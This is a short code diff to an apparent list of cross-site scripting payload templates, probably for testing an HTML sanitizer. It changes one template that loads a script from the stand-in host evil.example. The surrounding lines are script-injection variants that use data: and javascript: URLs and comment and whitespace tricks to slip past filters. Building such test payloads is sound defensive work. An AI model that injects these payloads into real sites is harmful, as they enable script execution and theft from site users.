@@ -49,7 +49,7 @@ const SCRIPT: Template[] = [
 	(x) => `<script src="data:text/javascript,${x}"></script>`,
 	(x) => `<script src=data:,${x}></script>`,
 	(x) => `<script src="javascript:${x}"></script>`,
-	(x) => `<script src=//evil.example/x.js></script>`,
+	() => `<script src=//evil.example/x.js></script>`,
 	(x) => `<script>/*</script>*/${x}</script>`,
 	(x) => `<script>${x}</script\t\n bar>`,
 	(x) => `<script\tsrc=data:,${x}></script>`,
